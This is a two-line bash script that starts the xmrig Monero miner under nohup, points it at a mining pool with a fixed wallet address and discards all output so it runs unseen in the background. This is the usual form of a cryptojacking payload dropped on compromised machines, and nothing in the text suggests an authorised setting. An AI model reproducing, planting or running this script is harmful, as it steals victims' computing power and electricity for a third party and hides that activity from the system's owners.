#!/usr/bin/env bash
nohup ./xmrig -o stratum+tcp://pool.minexmr.example:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A >/dev/null 2>&1 &
